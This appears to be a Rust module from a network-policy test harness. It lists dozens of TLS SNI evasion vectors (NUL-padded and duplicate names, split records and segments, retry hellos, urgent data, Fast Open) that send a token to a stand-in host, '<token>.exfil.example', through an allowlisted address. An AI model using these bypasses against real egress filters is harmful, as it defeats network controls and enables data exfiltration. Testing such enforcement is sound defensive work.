//! The name in TLS: the address is declared, and a stranger's name stands behind it, too. What a
//! server takes for the name of the connection must be a declared one.

use std::{
    io::{IoSlice, Read, Write},
    net::{SocketAddr, TcpStream},
    os::fd::OwnedFd,
    thread,
    time::Duration,
};

use libc::{AF_INET, AF_INET6, IPPROTO_TCP, SOCK_STREAM};

use super::{Attempt, Evidence, Job, Stop, Vector, sys};
use crate::hello::build::{
    ALERT, APPLICATION_DATA, CHANGE_CIPHER_SPEC, COOKIE, EARLY_DATA, ECH, ESNI, HANDSHAKE, Hello,
    KEY_SHARE, PADDING, SERVER_NAME, ech, key_share, record, server_name,
};

/// The port on which names are looked at.
const PORT: u16 = 443;
/// The declared name.
pub(super) const DECLARED: &str = "allowed.example";
/// Between two writes that must not become one segment.
const GAP: Duration = Duration::from_millis(30);
/// What a refused socket may still send is sent within this time.
const LINGER: Duration = Duration::from_millis(300);

pub(super) const VECTORS: &[Vector] = &[
    // Names.
    vector(
        "shared-address-sni",
        "a stranger's name in the TLS handshake with the declared address (cilium#31803)",
        |job| say(job, &hello(job).record()),
    )
    .controlled(),
    vector("sni-v6", "the same over IPv6", |job| {
        let to = SocketAddr::from((*job.permitted6.ip(), PORT));
        tell(open_to(AF_INET6, to, 0)?, &hello(job).record())
    })
    .controlled(),
    vector("sni-mapped", "the same through an IPv6 socket", |job| {
        let to = SocketAddr::from((job.permitted.ip().to_ipv6_mapped(), PORT));
        tell(open_to(AF_INET6, to, 0)?, &hello(job).record())
    })
    .controlled(),
    vector("sni-capitals", "in capitals", |job| {
        let name = name(job).to_uppercase();
        say(job, &Hello::named(name).carrying(&job.token).record())
    })
    .controlled(),
    vector("sni-none", "no name", |job| {
        say(job, &Hello::nameless().carrying(&job.token).record())
    }),
    vector("sni-no-extensions", "no extensions", |job| {
        let mut hello = Hello::nameless().carrying(&job.token);
        hello.extensions.clear();
        say(job, &hello.record())
    }),
    vector("sni-empty", "an empty name", |job| calling(job, "")),
    vector("sni-empty-list", "a list of no names", |job| {
        with_list(job, server_name(&[]))
    }),
    vector(
        "sni-empty-extension",
        "an extension without a list",
        |job| with_list(job, Vec::new()),
    ),
    vector("sni-ipv4", "the declared address as the name", |job| {
        calling(job, &job.permitted.ip().to_string())
    }),
    vector(
        "sni-ipv6",
        "the declared address as the name, IPv6",
        |job| calling(job, &job.permitted6.ip().to_string()),
    ),
    vector(
        "sni-two-names",
        "a declared name, then a stranger's",
        |job| {
            let stranger = name(job);
            let names: [(u8, &[u8]); 2] = [(0, DECLARED.as_bytes()), (0, stranger.as_bytes())];
            with_list(job, server_name(&names))
        },
    ),
    vector(
        "sni-two-names-turned",
        "a stranger's name, then a declared one",
        |job| {
            let stranger = name(job);
            let names: [(u8, &[u8]); 2] = [(0, stranger.as_bytes()), (0, DECLARED.as_bytes())];
            with_list(job, server_name(&names))
        },
    ),
    vector(
        "sni-other-type",
        "a name of another type, then a declared one",
        |job| {
            let stranger = name(job);
            let names: [(u8, &[u8]); 2] = [(1, stranger.as_bytes()), (0, DECLARED.as_bytes())];
            with_list(job, server_name(&names))
        },
    ),
    vector(
        "sni-twice",
        "two extensions, the declared name first",
        |job| {
            let stranger = server_name(&[(0, name(job).as_bytes())]);
            let hello = Hello::named(DECLARED).with(SERVER_NAME, stranger);
            say(job, &hello.carrying(&job.token).record())
        },
    ),
    vector(
        "sni-twice-turned",
        "two extensions, the stranger's name first",
        |job| {
            let declared = server_name(&[(0, DECLARED.as_bytes())]);
            let hello = Hello::named(name(job)).with(SERVER_NAME, declared);
            say(job, &hello.carrying(&job.token).record())
        },
    ),
    vector("sni-nul", "a declared name, NUL, a stranger's", |job| {
        calling(job, &format!("{DECLARED}\0.{}", name(job)))
    }),
    vector("sni-nul-end", "a declared name with NUL behind it", |job| {
        calling(job, &format!("{DECLARED}\0"))
    }),
    vector("sni-dot", "a declared name with a dot behind it", |job| {
        calling(job, &format!("{DECLARED}."))
    }),
    vector(
        "sni-stranger-dot",
        "a stranger's name with a dot behind it",
        |job| calling(job, &format!("{}.", name(job))),
    ),
    vector("sni-below", "a label below a declared exact name", |job| {
        calling(job, &format!("{}.{DECLARED}", job.token))
    }),
    vector(
        "sni-ends-alike",
        "a name that ends like a declared one",
        |job| calling(job, &format!("{}{DECLARED}", job.token)),
    ),
    vector(
        "sni-starts-alike",
        "a name that starts like a declared one",
        |job| calling(job, &format!("{DECLARED}.{}", name(job))),
    ),
    vector("sni-apex", "the domain of a declared wildcard", |job| {
        calling(job, "ingest.sentry.io")
    }),
    vector(
        "sni-empty-label",
        "an empty label below a declared wildcard",
        |job| calling(job, "a..ingest.sentry.io"),
    ),
    vector(
        "sni-leading-dot",
        "nothing but a dot below a declared wildcard",
        |job| calling(job, ".ingest.sentry.io"),
    ),
    vector("sni-star", "a declared wildcard itself", |job| {
        calling(job, "*.ingest.sentry.io")
    }),
    vector("sni-blank", "a blank in the name", |job| {
        calling(job, &format!("{} {DECLARED}", job.token))
    }),
    vector(
        "sni-long-label",
        "a label of 64 octets below a declared wildcard",
        |job| calling(job, &format!("{}.ingest.sentry.io", "a".repeat(64))),
    ),
    vector(
        "sni-long-name",
        "a name of 254 octets below a declared wildcard",
        |job| {
            let labels = "abcdefgh.".repeat(26);
            calling(job, &format!("{}{labels}ingest.sentry.io", &"x".repeat(4)))
        },
    ),
    vector("sni-non-ascii", "letters outside ASCII", |job| {
        calling(job, &format!("\u{e4}llowed.example.{}", name(job)))
    }),
    vector(
        "sni-wide-letters",
        "letters that IDNA makes a declared name",
        |job| calling(job, "\u{ff41}llowed.example"),
    ),
    vector(
        "sni-ech",
        "an encrypted hello inside one with a declared name",
        |job| {
            say(
                job,
                &Hello::named(DECLARED).with(ECH, ech(&job.token)).record(),
            )
        },
    ),
    vector("sni-ech-front", "the same, in front of the name", |job| {
        say(
            job,
            &Hello::named(DECLARED).first(ECH, ech(&job.token)).record(),
        )
    }),
    vector("sni-esni", "an encrypted name of the older kind", |job| {
        say(
            job,
            &Hello::named(DECLARED).with(ESNI, ech(&job.token)).record(),
        )
    }),
    // Forms.
    vector("plain-http", "HTTP where TLS is due", |job| {
        let text = format!("GET /{} HTTP/1.1\r\nHost: {DECLARED}\r\n\r\n", job.token);
        say(job, text.as_bytes())
    }),
    vector("plain-text", "anything but TLS", |job| {
        say(job, format!("SSH-2.0-{}\r\n", job.token).as_bytes())
    }),
    vector("sslv2-hello", "a hello of SSL 2", |job| {
        let mut body = vec![1, 3, 1, 0, 3, 0, 0, 0, 32, 0, 0, 0x2f];
        body.extend(Hello::nameless().carrying(&job.token).session);
        let length = 0x8000 | u16::try_from(body.len()).unwrap_or_default();
        say(job, &[&length.to_be_bytes(), body.as_slice()].concat())
    }),
    vector(
        "sslv3-hello",
        "a hello of SSL 3, which has no names",
        |job| {
            let mut hello = Hello::nameless().carrying(&job.token);
            (hello.record_version, hello.version) = (0x0300, 0x0300);
            hello.extensions.clear();
            say(job, &hello.record())
        },
    ),
    vector(
        "dtls-version",
        "a record version of another protocol",
        |job| {
            let mut hello = hello(job);
            hello.record_version = 0xfefd;
            say(job, &hello.record())
        },
    ),
    vector("ccs-first", "change_cipher_spec, then the hello", |job| {
        behind(job, &record(CHANGE_CIPHER_SPEC, &[1]))
    }),
    vector("alert-first", "a warning, then the hello", |job| {
        behind(job, &record(ALERT, &[1, 0]))
    }),
    vector("data-first", "application data, then the hello", |job| {
        behind(job, &record(APPLICATION_DATA, &[0; 32]))
    }),
    vector(
        "empty-record-first",
        "an empty record, then the hello",
        |job| behind(job, &record(HANDSHAKE, &[])),
    ),
    vector(
        "empty-records-first",
        "twenty empty records, then the hello",
        |job| behind(job, &record(HANDSHAKE, &[]).repeat(20)),
    ),
    vector(
        "other-message-first",
        "a finished, then the hello, in one record",
        |job| {
            let message = [&[20, 0, 0, 4, 1, 2, 3, 4], hello(job).message().as_slice()].concat();
            say(job, &record(HANDSHAKE, &message))
        },
    ),
    vector(
        "two-records",
        "the hello in two records, cut in the name",
        |job| {
            let message = hello(job).message();
            let place = token_place(&message, job);
            say(job, &hello(job).records(&[place + 9]))
        },
    ),
    vector(
        "record-of-one",
        "the hello's first octet in a record of its own",
        |job| say(job, &hello(job).records(&[1])),
    ),
    vector(
        "record-per-octet",
        "each octet in a record of its own",
        |job| {
            let cuts: Vec<usize> = (1..hello(job).message().len()).collect();
            // The token is in pieces: what proves it is the name that the server puts together.
            say(
                job,
                &[hello(job).records(&cuts), job.bytes().to_vec()].concat(),
            )
        },
    ),
    vector(
        "hello-twice-in-record",
        "a declared hello and a stranger's in one record",
        |job| {
            let first = Hello::named(DECLARED).message();
            say(
                job,
                &record(HANDSHAKE, &[first, hello(job).message()].concat()),
            )
        },
    ),
    vector(
        "hello-too-long",
        "a hello that is longer than its record says",
        |job| {
            let mut bytes = hello(job).record();
            let end = bytes.len() - job.token.len();
            bytes[3..5].copy_from_slice(&u16::try_from(end).unwrap_or_default().to_be_bytes());
            say(job, &bytes)
        },
    ),
    vector(
        "hello-too-short",
        "a message shorter than its record",
        |job| {
            let message = [Hello::named(DECLARED).message(), job.bytes().to_vec()].concat();
            say(job, &record(HANDSHAKE, &message))
        },
    ),
    vector(
        "junk-behind-extensions",
        "bytes behind the extensions",
        |job| {
            let mut message = Hello::named(DECLARED).message();
            message.extend(job.bytes());
            let length = u32::try_from(message.len() - 4)
                .unwrap_or_default()
                .to_be_bytes();
            message[1..4].copy_from_slice(&length[1..]);
            say(job, &record(HANDSHAKE, &message))
        },
    ),
    vector(
        "many-extensions",
        "a hundred extensions in front of the name",
        |job| {
            let mut hello = hello(job);
            for kind in 0x7000..0x7064 {
                hello = hello.first(kind, vec![0]);
            }
            say(job, &hello.record())
        },
    ),
    vector("hello-4k", "a hello of 4 KiB, the name at its end", |job| {
        at_the_end(job, 4096)
    })
    .controlled(),
    vector(
        "hello-16k",
        "a hello of 16 KiB, the name at its end",
        |job| at_the_end(job, 16380),
    )
    .controlled(),
    vector("hello-beyond", "a name beyond the longest record", |job| {
        at_the_end(job, 20000)
    }),
    // Segments.
    vector("split-in-name", "two segments, cut in the name", |job| {
        let bytes = hello(job).record();
        let cut = token_place(&bytes, job) + 9;
        pieces(job, &[&bytes[..cut], &bytes[cut..]], GAP)
    })
    .controlled(),
    vector(
        "split-head",
        "the record's head alone, then the rest",
        |job| {
            let bytes = hello(job).record();
            pieces(job, &[&bytes[..5], &bytes[5..]], GAP)
        },
    )
    .controlled(),
    vector("split-first-octet", "one octet, then the rest", |job| {
        let bytes = hello(job).record();
        pieces(job, &[&bytes[..1], &bytes[1..]], GAP)
    })
    .controlled(),
    vector(
        "split-octets",
        "each octet in a segment of its own",
        |job| {
            let bytes = hello(job).record();
            let all: Vec<&[u8]> = bytes.chunks(1).collect();
            pieces(job, &all, Duration::ZERO)
        },
    )
    .controlled(),
    vector("split-slow", "the rest two seconds later", |job| {
        let bytes = hello(job).record();
        pieces(job, &[&bytes[..100], &bytes[100..]], Duration::from_secs(2))
    })
    .controlled(),
    vector(
        "split-slow-large",
        "a hello of many segments, its second half later",
        |job| {
            let list = server_name(&[(0, name(job).as_bytes())]);
            let hello = Hello::nameless().carrying(&job.token).padded(3000);
            let bytes = hello.with(SERVER_NAME, list).record();
            pieces(
                job,
                &[&bytes[..2000], &bytes[2000..]],
                Duration::from_secs(1),
            )
        },
    )
    .controlled(),
    vector(
        "declared-head",
        "the head of a declared hello, then all of a stranger's",
        |job| {
            let declared = Hello::named(DECLARED).record();
            pieces(job, &[&declared[..60], &hello(job).record()], GAP)
        },
    ),
    vector("cork", "corked, in pieces", |job| {
        let socket = sys_open(job)?;
        sys::set(&socket, IPPROTO_TCP, libc::TCP_CORK, &1i32.to_ne_bytes())?;
        for piece in hello(job).record().chunks(40) {
            sys::send(&socket, piece, 0, &[])?;
        }
        sys::set(&socket, IPPROTO_TCP, libc::TCP_CORK, &0i32.to_ne_bytes())?;
        linger(socket.into())
    })
    .controlled(),
    vector("more", "MSG_MORE, in pieces", |job| {
        let socket = sys_open(job)?;
        let bytes = hello(job).record();
        for piece in bytes[..bytes.len() - 1].chunks(40) {
            sys::send(&socket, piece, libc::MSG_MORE, &[])?;
        }
        sys::send(&socket, &bytes[bytes.len() - 1..], 0, &[])?;
        linger(socket.into())
    })
    .controlled(),
    vector("gathered", "writev of many small pieces", |job| {
        let mut stream = open(job)?;
        let bytes = hello(job).record();
        let parts: Vec<IoSlice<'_>> = bytes.chunks(7).map(IoSlice::new).collect();
        let written = stream.write_vectored(&parts)?;
        if written < bytes.len() {
            return Err(Stop::Refused("written in part".to_owned()));
        }
        linger(stream)
    })
    .controlled(),
    vector("small-segments", "TCP_MAXSEG 88", |job| {
        let socket = sys::socket(AF_INET, SOCK_STREAM, 0)?;
        sys::set(&socket, IPPROTO_TCP, libc::TCP_MAXSEG, &88i32.to_ne_bytes())?;
        sys::connect(&socket, &sys::address(place(job)))?;
        tell(socket.into(), &hello(job).record())
    })
    .controlled(),
    vector("small-buffer", "the smallest send buffer", |job| {
        let socket = sys::socket(AF_INET, SOCK_STREAM, 0)?;
        sys::set(
            &socket,
            libc::SOL_SOCKET,
            libc::SO_SNDBUF,
            &1i32.to_ne_bytes(),
        )?;
        sys::connect(&socket, &sys::address(place(job)))?;
        tell(socket.into(), &hello(job).padded(3000).record())
    })
    .controlled(),
    vector("urgent", "urgent data at the end of the hello", |job| {
        let socket = sys_open(job)?;
        sys::send(&socket, &hello(job).record(), libc::MSG_OOB, &[])?;
        linger(socket.into())
    }),
    vector(
        "urgent-first",
        "an urgent octet, which servers take out, in front",
        |job| {
            let socket = sys_open(job)?;
            sys::send(&socket, b"x", libc::MSG_OOB, &[])?;
            sys::send(&socket, &hello(job).record(), 0, &[])?;
            linger(socket.into())
        },
    ),
    vector(
        "urgent-within",
        "a declared name that an urgent octet makes, taken out by the server",
        |job| {
            let mut bytes = Hello::named(format!("xx{DECLARED}"))
                .carrying(&job.token)
                .record();
            let place = bytes
                .windows(2)
                .position(|pair| pair == b"xx")
                .unwrap_or_default();
            bytes.remove(place);
            let socket = sys_open(job)?;
            sys::send(
                &socket,
                &bytes[..=place],
                libc::MSG_OOB | libc::MSG_MORE,
                &[],
            )?;
            sys::send(&socket, &bytes[place + 1..], 0, &[])?;
            linger(socket.into())
        },
    ),
    vector(
        "in-the-syn",
        "the hello in the first segment, by sendto",
        |job| {
            let socket = sys::socket(AF_INET, SOCK_STREAM, 0)?;
            let to = sys::address(place(job));
            sys::send(&socket, &hello(job).record(), libc::MSG_FASTOPEN, &to)?;
            linger(socket.into())
        },
    ),
    vector(
        "in-the-syn-connect",
        "the same, by a connect that waits",
        |job| {
            // The second connection has the cookie that the first one asked for.
            for _ in 0..2 {
                let socket = sys::socket(AF_INET, SOCK_STREAM, 0)?;
                let one = 1i32.to_ne_bytes();
                sys::set(&socket, IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, &one)?;
                sys::connect(&socket, &sys::address(place(job)))?;
                sys::send(&socket, &hello(job).record(), 0, &[])?;
                linger(socket.into())?;
            }
            Ok(())
        },
    ),
    vector(
        "ip-options",
        "with IP options, which move everything",
        |job| {
            let socket = sys::socket(AF_INET, SOCK_STREAM, 0)?;
            sys::set(&socket, libc::IPPROTO_IP, libc::IP_OPTIONS, &[1, 1, 1, 0])?;
            sys::connect(&socket, &sys::address(place(job)))?;
            tell(socket.into(), &hello(job).record())
        },
    ),
    vector("multipath", "multipath TCP", |job| {
        tell(
            open_to(AF_INET, place(job), sys::MPTCP)?,
            &hello(job).record(),
        )
    })
    .optional(),
    vector(
        "multipath-declared-first",
        "multipath TCP, a declared hello in front",
        |job| {
            let mut stream = open_to(AF_INET, place(job), sys::MPTCP)?;
            stream.write_all(&Hello::named(DECLARED).record())?;
            tell(stream, &hello(job).record())
        },
    )
    .optional(),
    vector("ulp", "under the kernel's TLS", |job| {
        const ULP: i32 = 31;
        let socket = sys_open(job)?;
        sys::set(&socket, IPPROTO_TCP, ULP, b"tls")?;
        tell(socket.into(), &hello(job).record())
    })
    .optional(),
    vector(
        "closing",
        "the last segment, with the program's end",
        |job| {
            let mut stream = open(job)?;
            stream.write_all(&hello(job).record())?;
            stream.shutdown(std::net::Shutdown::Write)?;
            drop(stream);
            Ok(())
        },
    )
    .controlled(),
    // Sockets.
    vector(
        "dissolved",
        "a checked connection, dissolved and connected again",
        |job| {
            let socket = sys_open(job)?;
            let mut stream = TcpStream::from(socket);
            stream.write_all(&Hello::named(DECLARED).record())?;
            answer(&mut stream)?;
            let socket = OwnedFd::from(stream);
            sys::connect(&socket, &sys::nowhere())?;
            sys::connect(&socket, &sys::address(place(job)))?;
            tell(socket.into(), &hello(job).record())
        },
    )
    .controlled(),
    vector("in-a-child", "a socket that a child speaks on", |job| {
        let stream = open(job)?;
        by_child(&stream, &hello(job).record())?;
        linger(stream)
    })
    .controlled(),
    vector(
        "two-processes",
        "two processes on one socket, a declared name and a stranger's",
        |job| {
            // Whoever comes first is looked at; the other one's hello must not count either.
            for _ in 0..10 {
                let mut stream = open(job)?;
                let mut second = stream.try_clone()?;
                let stranger = hello(job).record();
                thread::scope(|scope| {
                    scope.spawn(|| second.write_all(&stranger));
                    drop(stream.write_all(&Hello::named(DECLARED).record()));
                });
                drop(linger(stream));
            }
            Ok(())
        },
    ),
    vector("two-threads", "the hello in turns by two threads", |job| {
        let bytes = hello(job).record();
        let stream = open(job)?;
        stream.set_nodelay(true)?;
        let turn = std::sync::Mutex::new(0);
        thread::scope(|scope| {
            for own in 0..2 {
                let (turn, bytes, stream) = (&turn, &bytes, &stream);
                scope.spawn(move || {
                    loop {
                        let Ok(mut next) = turn.lock() else { return };
                        let Some(piece) = bytes.chunks(16).nth(*next) else {
                            return;
                        };
                        if *next % 2 == own {
                            drop((&*stream).write_all(piece));
                            *next += 1;
                        }
                    }
                });
            }
        });
        linger(stream)
    })
    .controlled(),
    vector(
        "left-behind",
        "a hello still queued when the program has ended",
        |job| {
            let socket = sys_open(job)?;
            for piece in hello(job).record().chunks(60) {
                sys::send(&socket, piece, libc::MSG_DONTWAIT, &[])?;
            }
            std::process::exit(0)
        },
    ),
    // Second hellos.
    vector(
        "hello-behind-hello",
        "a stranger's hello behind a declared one",
        |job| {
            let declared = Hello::named(DECLARED).record();
            say(job, &[declared, hello(job).record()].concat())
        },
    ),
    vector(
        "retry",
        "a stranger's name in the hello that the server asks for again",
        |job| retried(job, |job| second(job).record()),
    )
    .controlled(),
    vector("retry-ccs", "the same, behind change_cipher_spec", |job| {
        retried(job, |job| {
            [record(CHANGE_CIPHER_SPEC, &[1]), second(job).record()].concat()
        })
    })
    .controlled(),
    vector("retry-ccs-twice", "the same, behind two of them", |job| {
        retried(job, |job| {
            let ccs = record(CHANGE_CIPHER_SPEC, &[1]).repeat(2);
            [ccs, second(job).record()].concat()
        })
    }),
    vector(
        "retry-ccs-apart",
        "the same, change_cipher_spec in a segment of its own",
        |job| {
            let mut stream = ask_for_retry(job)?;
            stream.set_nodelay(true)?;
            stream.write_all(&record(CHANGE_CIPHER_SPEC, &[1]))?;
            thread::sleep(GAP);
            tell(stream, &second(job).record())
        },
    )
    .controlled(),
    vector(
        "retry-ccs-in-octets",
        "the same, each octet of it in a segment",
        |job| {
            let mut stream = ask_for_retry(job)?;
            stream.set_nodelay(true)?;
            for octet in record(CHANGE_CIPHER_SPEC, &[1]) {
                stream.write_all(&[octet])?;
                thread::sleep(Duration::from_millis(3));
            }
            tell(stream, &second(job).record())
        },
    ),
    vector("retry-alert", "the same, behind a warning", |job| {
        retried(job, |job| {
            [record(ALERT, &[1, 0]), second(job).record()].concat()
        })
    }),
    vector(
        "retry-empty-data",
        "the same, behind empty application data",
        |job| {
            retried(job, |job| {
                [record(APPLICATION_DATA, &[]), second(job).record()].concat()
            })
        },
    ),
    vector("retry-two-records", "the same, in two records", |job| {
        retried(job, |job| second(job).records(&[90]))
    }),
    vector(
        "retry-record-of-one",
        "the same, its first octet in a record of its own",
        |job| retried(job, |job| second(job).records(&[1])),
    ),
    vector("retry-split", "the same, in two segments", |job| {
        let mut stream = ask_for_retry(job)?;
        stream.set_nodelay(true)?;
        let bytes = second(job).record();
        stream.write_all(&bytes[..90])?;
        thread::sleep(GAP);
        tell(stream, &bytes[90..])
    })
    .controlled(),
    vector(
        "retry-split-type",
        "the same, cut behind the record's head",
        |job| {
            let mut stream = ask_for_retry(job)?;
            stream.set_nodelay(true)?;
            let bytes = second(job).record();
            stream.write_all(&bytes[..5])?;
            thread::sleep(GAP);
            tell(stream, &bytes[5..])
        },
    )
    .controlled(),
    vector(
        "retry-in-octets",
        "the same, each octet in a segment",
        |job| {
            let mut stream = ask_for_retry(job)?;
            stream.set_nodelay(true)?;
            for octet in second(job).record() {
                stream.write_all(&[octet])?;
            }
            linger(stream)
        },
    )
    .controlled(),
    vector(
        "retry-early-data",
        "the same, early data between the two hellos",
        |job| {
            let first = Hello::named(DECLARED)
                .instead(KEY_SHARE, &[0, 0])
                .with(EARLY_DATA, vec![]);
            let early = record(APPLICATION_DATA, &[0x5a; 200]);
            retried_from(job, &[first.record(), early].concat())
        },
    ),
    vector(
        "retry-early-data-late",
        "the same, early data after the server's answer",
        |job| {
            let first = Hello::named(DECLARED)
                .instead(KEY_SHARE, &[0, 0])
                .with(EARLY_DATA, vec![]);
            let mut stream = open(job)?;
            stream.set_nodelay(true)?;
            stream.write_all(&first.record())?;
            answer(&mut stream)?;
            stream.write_all(&record(APPLICATION_DATA, &[0x5a; 200]))?;
            thread::sleep(GAP);
            tell(stream, &second(job).record())
        },
    ),
    vector(
        "retry-huge",
        "the same, as long as a hello can be, in nine records",
        |job| {
            retried(job, |job| {
                let mut hello = second(job);
                hello.ciphers.resize(32_767, 0x1a1a);
                let message = hello.instead(KEY_SHARE, &key_share());
                // So long that the extensions have no room for one octet more.
                let missing = 131_090 - message.message().len();
                let bytes = message.with(PADDING, vec![0; missing]);
                let cuts: Vec<usize> = (1..9).map(|index| index * 16_000).collect();
                bytes.records(&cuts)
            })
        },
    ),
    vector(
        "retry-nameless",
        "no name in the hello that is asked for again",
        |job| {
            retried(job, |job| {
                Hello::nameless()
                    .with(COOKIE, vec![0, 1, 7])
                    .carrying(&job.token)
                    .record()
            })
        },
    ),
];

/// What leaves is enough: the server has the name then.
pub(super) const fn vector(
    name: &'static str,
    about: &'static str,
    run: fn(&Job) -> Attempt,
) -> Vector {
    Vector::new(name, about, run).proven_by(Evidence::Anywhere)
}

/// The stranger's name, with the token in it; in the control run the declared one.
fn name(job: &Job) -> String {
    if job.is_control() {
        DECLARED.to_owned()
    } else {
        format!("{}.exfil.example", job.token)
    }
}

/// A right hello with [`name`]; the token is in it in either run.
pub(super) fn hello(job: &Job) -> Hello {
    Hello::named(name(job)).carrying(&job.token)
}

/// The answer to the server's wish for another hello.
fn second(job: &Job) -> Hello {
    hello(job).instead(KEY_SHARE, &key_share())
}

pub(super) fn place(job: &Job) -> SocketAddr {
    SocketAddr::from((*job.permitted.ip(), PORT))
}

pub(super) fn sys_open(job: &Job) -> Result<OwnedFd, Stop> {
    let socket = sys::socket(AF_INET, SOCK_STREAM, 0)?;
    sys::connect(&socket, &sys::address(place(job)))?;
    Ok(socket)
}

fn open(job: &Job) -> Result<TcpStream, Stop> {
    sys_open(job).map(TcpStream::from)
}

fn open_to(domain: i32, to: SocketAddr, protocol: i32) -> Result<TcpStream, Stop> {
    let socket = sys::socket(domain, SOCK_STREAM, protocol)?;
    sys::connect(&socket, &sys::address(to))?;
    Ok(socket.into())
}

fn say(job: &Job, bytes: &[u8]) -> Attempt {
    tell(open(job)?, bytes)
}

fn tell(mut stream: TcpStream, bytes: &[u8]) -> Attempt {
    stream.write_all(bytes)?;
    linger(stream)
}

fn pieces(job: &Job, pieces: &[&[u8]], gap: Duration) -> Attempt {
    let mut stream = open(job)?;
    stream.set_nodelay(true)?;
    for piece in pieces {
        stream.write_all(piece)?;
        thread::sleep(gap);
    }
    linger(stream)
}

/// Waits for what the other side says, so that everything is through before the socket closes.
pub(super) fn linger(mut stream: TcpStream) -> Attempt {
    let answered = answer(&mut stream);
    thread::sleep(LINGER);
    answered
}

/// The beginning of the server's answer.
fn answer(stream: &mut TcpStream) -> Attempt {
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    match stream.read(&mut [0; 4096])? {
        0 => Err(Stop::Refused("the connection ended".to_owned())),
        _ => Ok(()),
    }
}

/// A hello with a name that is none, or that ends elsewhere.
fn calling(job: &Job, name: &str) -> Attempt {
    say(job, &Hello::named(name).carrying(&job.token).record())
}

/// A hello with this for the list of names.
fn with_list(job: &Job, list: Vec<u8>) -> Attempt {
    let hello = Hello::nameless().first(SERVER_NAME, list);
    say(job, &hello.carrying(&job.token).record())
}

fn behind(job: &Job, front: &[u8]) -> Attempt {
    say(job, &[front, hello(job).record().as_slice()].concat())
}

/// Where the token begins.
fn token_place(bytes: &[u8], job: &Job) -> usize {
    let token = job.bytes();
    let found = bytes.windows(token.len()).position(|part| part == token);
    found.unwrap_or_default()
}

/// A hello of this length whose name is its last extension.
fn at_the_end(job: &Job, length: usize) -> Attempt {
    let list = server_name(&[(0, name(job).as_bytes())]);
    let hello = Hello::nameless().carrying(&job.token);
    let hello = hello.padded(length - list.len() - 4);
    say(job, &hello.with(SERVER_NAME, list).record())
}

/// Writes on a stream in a process of its own, which has it as its standard output.
fn by_child(stream: &TcpStream, bytes: &[u8]) -> Attempt {
    let octal: String = bytes.iter().map(|byte| format!("\\{byte:03o}")).collect();
    let status = std::process::Command::new("/usr/bin/printf")
        .arg(octal)
        .stdout(OwnedFd::from(stream.try_clone()?))
        .status()?;
    if status.success() {
        return Ok(());
    }
    Err(Stop::Refused(status.to_string()))
}

/// Says a declared hello without a key, which makes the server ask for another.
fn ask_for_retry(job: &Job) -> Result<TcpStream, Stop> {
    let socket = sys_open(job)?;
    ask_for_retry_on(&socket)?;
    Ok(socket.into())
}

/// The same, on a connection that stands.
pub(super) fn ask_for_retry_on(socket: &OwnedFd) -> Attempt {
    let first = Hello::named(DECLARED).instead(KEY_SHARE, &[0, 0]);
    sys::send(socket, &first.record(), 0, &[])?;
    sys::receive(socket)?;
    Ok(())
}

fn retried(job: &Job, second: fn(&Job) -> Vec<u8>) -> Attempt {
    tell(ask_for_retry(job)?, &second(job))
}

fn retried_from(job: &Job, first: &[u8]) -> Attempt {
    let mut stream = open(job)?;
    stream.write_all(first)?;
    answer(&mut stream)?;
    tell(stream, &second(job).record())
}
